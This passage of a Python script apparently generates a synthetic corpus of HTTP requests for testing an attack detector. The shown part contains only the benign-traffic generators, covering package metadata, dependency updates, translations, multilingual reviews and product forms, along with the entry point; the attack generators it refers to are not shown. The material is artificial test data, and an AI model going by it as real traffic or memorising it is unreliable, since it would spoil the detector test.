        t.json("package-metadata", "/api/v1/packages/" + urllib.parse.quote(pkg["name"], safe="@") + "/versions", pkg, client="npm/10.8.1 node/v20.15.0 linux x64 workspaces/false", host="npm.acme-shop.com",
               extra=[("Authorization", "Bearer npm_" + c.alnum(36)), ("npm-command", "publish")])
    for i in range(4):
        ev = {"type": "renovate", "repository": "acme/shop-api", "updates": [{"depName": d, "currentValue": cv, "newValue": nv, "updateType": ut, "packageFile": pf}
                                                                            for d, cv, nv, ut, pf in c.r.sample([("golang.org/x/net", "v0.25.0", "v0.26.0", "minor", "go.mod"),
                                                                                                                 ("node", "20.14.0", "20.15.0", "patch", ".nvmrc"),
                                                                                                                 ("postgres", "16.2-alpine", "16.3-alpine", "patch", "docker-compose.yml"),
                                                                                                                 ("django", ">=4.2,<5.0", ">=5.0,<5.1", "major", "requirements/base.txt"),
                                                                                                                 ("actions/checkout", "v4.1.6", "v4.1.7", "patch", ".github/workflows/ci.yml")], 3)]}
        t.json("dependency-update", "/api/v1/hooks/deps", ev, client="python", host="hooks.acme-shop.com")
    for i in range(4):
        t.json("artifact-metadata", "/api/v1/artifacts", {"artifact": {"path": c.pick(["dist/assets/index-4f3a9c1e.js", "build/libs/payments-7.0.3.jar", "target/release/indexer", "wheelhouse/shop-3.9.0-py3-none-any.whl"]),
                                                                      "sha256": c.hex(64), "size": c.r.randrange(10**4, 10**8), "installPath": c.pick(["/usr/local/lib/python3.12/site-packages/shop", "/opt/app/lib", "C:\\Program Files\\Acme\\Agent", "~/.cache/pip"]),
                                                                      "version": c.pick(["3.9.0", "v7.0.3", "2024.06.11-1f3e9a2", "1.4.0+sha.5d8f7c9"])}}, client="go")


I18N = [("ar", {"checkout.title": "إتمام الشراء", "cart.items": "{count, plural, zero {لا عناصر} one {عنصر واحد} other {# عناصر}}", "greeting": "مرحبا {name}!"}),
        ("ja", {"checkout.title": "ご購入手続き", "cart.items": "{count, plural, other {# 点の商品}}", "greeting": "{name}さん、こんにちは！", "shipping.note": "※ 配送には2〜3営業日かかります"}),
        ("zh-CN", {"checkout.title": "结账", "cart.items": "{count, plural, other {# 件商品}}", "greeting": "你好，{name}！"}),
        ("fr", {"checkout.title": "Paiement", "cart.items": "{count, plural, one {# article} other {# articles}}", "greeting": "Bonjour {name} !", "legal": "L'abonnement se renouvelle automatiquement."}),
        ("de", {"checkout.title": "Kasse", "cart.items": "{count, plural, one {# Artikel} other {# Artikel}}", "greeting": "Hallo {name}!", "size": "Größe"}),
        ("ko", {"checkout.title": "결제하기", "greeting": "{name}님, 안녕하세요!"}),
        ("hi", {"checkout.title": "चेकआउट", "greeting": "नमस्ते {name}!"}),
        ("ru", {"checkout.title": "Оформление заказа", "cart.items": "{count, plural, one {# товар} few {# товара} many {# товаров} other {# товара}}"}),
        ("he", {"checkout.title": "תשלום", "greeting": "שלום {name}!"}),
        ("ga", {"checkout.title": "Seiceáil amach", "greeting": "Dia duit, {name}!"})]
REVIEWS = ["منتج رائع، التوصيل كان سريعاً جداً 👍", "とても良い商品です。また買います！⭐⭐⭐⭐⭐", "质量很好，物流也很快。", "Super Qualität, aber die Größe fällt klein aus.",
           "Très joli coussin, les couleurs sont fidèles à la photo 😍", "배송이 빨라요! 추천합니다", "Отличный товар, рекомендую!", "Έφτασε σε τέλεια κατάσταση 🙌",
           "Muy buena relación calidad-precio 👌", "Harika bir ürün, teşekkürler! 🇹🇷", "Best mug ever ☕️😂 — my partner's already stolen it"]


def ben_i18n(c):
    t = Tag(c, "benign", "i18n")
    for lang, msgs in I18N:
        t.json("translations", f"/api/v1/translations/{lang}", {"locale": lang, "messages": msgs}, method="PUT", client=c.pick(["chrome", "python"]), extra=[("Authorization", "Bearer " + c.jwt())])
    for r in REVIEWS:
        t.json("review", f"/api/v1/products/{c.r.randrange(100, 999)}/reviews", {"rating": c.r.randrange(4, 6), "text": r, "locale": "auto"}, client=c.pick(["ios-app", "android-app", "chrome", "safari"]),
               style=c.pick(["compact", "ascii"]))


def ben_products(c):
    t = Tag(c, "benign", "products")
    for i, name in enumerate(PRODUCTS[:16]):
        body = {"product": {"name": name, "slug": "".join(ch if ch.isalnum() else "-" for ch in name.lower()).strip("-"), "price": {"amount": c.r.randrange(299, 49999), "currency": "EUR"},
                            "description": c.pick(["Hand-finished in Portugal.", "Fits 4–6 people when the leaves are up.", "Select your size below; runs true to size.", "Union of comfort and style.",
                                                   "Limited drop — while stocks last!", "Insert the cartridge, twist & write."]),
                            "tags": c.r.sample(["home", "gift", "new", "sale", "eco"], 2), "attributes": {"color": c.pick(["navy", "oak", "black", "red/white/blue"])}}}
        if i % 2:
            t.json("product-create", "/api/v1/products", body, client=c.pick(["chrome", "python"]), extra=[("Authorization", "Bearer " + c.jwt())])
        else:
            t.form("product-form", "/admin/products/new", [("product[name]", name), ("product[price]", f"{c.r.uniform(3, 400):.2f}"), ("product[description]", body["product"]["description"]),
                                                           ("product[tags]", ",".join(body["product"]["tags"])), ("commit", "Save product")], client=c.pick(sorted(BROWSERS)), host="admin.acme-shop.com",
                   extra=[("Cookie", "_admin_session=" + c.b64url(64))])


BENIGN = [ben_k8s, ben_ci, ben_metrics, ben_search, ben_chat, ben_oauth, ben_saml, ben_forms, ben_graphql, ben_docs, ben_people,
          ben_rest, ben_health, ben_grpc, ben_csv, ben_cron, ben_config, ben_email, ben_packages, ben_i18n, ben_products]


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-apis.py attacks|benign > FILE.jsonl\n")
        return 2
    if argv[1] == "attacks":
        c, gens = Corpus(SEED_ATTACKS, "detect"), ATTACKS
    else:
        c, gens = Corpus(SEED_BENIGN, "pass"), BENIGN
    for g in gens:
        g(c)
    ids = [row["id"] for row in c.rows]
    assert len(ids) == len(set(ids)), "duplicate ids"
    out = sys.stdout
    for row in c.rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
